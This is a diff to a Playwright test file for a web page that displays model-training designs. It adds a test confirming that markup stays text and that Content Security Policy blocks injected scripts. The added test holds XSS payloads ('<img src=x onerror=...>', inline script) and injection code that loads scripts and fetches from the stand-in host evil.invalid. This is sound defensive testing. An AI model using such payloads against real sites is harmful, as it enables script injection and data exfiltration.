@@ -232,19 +232,76 @@ def test_a_log_is_learnt_from_and_stays_in_the_page(desk, how, tmp_path):
     assert [url for url in desk.asked[before:] if not url.startswith(("data:", "blob:"))] == []
 
 
-def test_what_is_left_of_a_cut_link_opens_by_one_press(desk, served):
+@pytest.mark.parametrize(
+    "spoil, said",
+    [
+        (lambda text: text[:-12], "cut short"),
+        (lambda text: text.replace("design=1.", "design=0."), "version 0"),
+        (lambda text: text.replace("design=1.", "design=2."), "version 2"),
+    ],
+)
+def test_what_is_left_of_a_bad_link_opens_by_one_press(desk, served, spoil, said):
     design = scantling.Design.read(ROOT / "gallery" / "designs" / "gpt-3-175b-64-a100.yaml")
     desk.page.goto("about:blank")
-    desk.open(f"{served[0]}#{link.write(design)[:-12]}")
+    desk.open(f"{served[0]}#{spoil(link.write(design))}")
     offer = desk.page.get_by_role("button", name="Open what is left")
     offer.wait_for(timeout=browsing.PATIENCE_MS)
-    assert "cut short" in desk.page.locator(".sd-line").inner_text()
+    assert said in desk.page.locator(".sd-line").inner_text()
     offer.click()
     desk.page.wait_for_function(
         "title => document.querySelector('.sd-title').innerText.includes(title)",
         arg="GPT-3 175B",
         timeout=browsing.PATIENCE_MS,
     )
+
+
+_ATTACKS = """async () => {
+    const refused = new Set();
+    addEventListener("securitypolicyviolation", event => refused.add(event.effectiveDirective));
+    window.taken = 0;
+    const put = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
+    put("script", { textContent: "window.taken = 1" });
+    put("script", { src: "https://evil.invalid/x.js" });
+    put("img", { src: "https://evil.invalid/x.png" });
+    put("object", { data: "https://evil.invalid/x" });
+    put("iframe", { src: "https://evil.invalid/" });
+    put("base", { href: "https://evil.invalid/" });
+    const box = document.createElement("div");
+    box.innerHTML = "<i onclick='window.taken = 2'></i><style>i { color: red }</style>";
+    document.body.append(box);
+    box.firstChild.click();
+    try { setTimeout("window.taken = 3", 0); } catch {}
+    try { new Worker(URL.createObjectURL(new Blob(["1"]))); } catch {}
+    await fetch("https://evil.invalid/?design").catch(() => {});
+    await new Promise(done => setTimeout(done, 500));
+    return [window.taken, [...refused].sort(), document.baseURI];
+}"""
+
+
+def test_what_gets_into_the_page_neither_runs_nor_calls_home(desk, served):
+    """Markup in a design stays text; where a script got in all the same, the page's policy holds
+    it: the directives of Content Security Policy Level 3 that each attempt violates."""
+    marked = "<img src=x onerror='window.taken = 4'><script>window.taken = 5</script>"
+    design = scantling.Design.read(ROOT / "gallery" / "designs" / "gpt-3-175b-64-a100.yaml")
+    visit(desk, f"{served[0]}#{link.write(design.change({'name': marked}))}")
+    desk.page.get_by_text("<img src=x onerror").first.wait_for()
+    assert desk.page.locator("#desk img[src=x], #desk script").count() == 0
+    taken, refused, base = desk.page.evaluate(_ATTACKS)
+    assert taken == 0
+    assert refused == [
+        "base-uri",
+        "connect-src",
+        "frame-src",
+        "img-src",
+        "object-src",
+        "script-src",
+        "script-src-attr",
+        "script-src-elem",
+        "style-src-elem",
+        "worker-src",
+    ]
+    assert base.startswith(served[0])
+    assert not any("evil" in url for url in desk.page.context.refused)
 
 
 def test_opened_as_a_file_it_says_how_to_serve(desk, served):
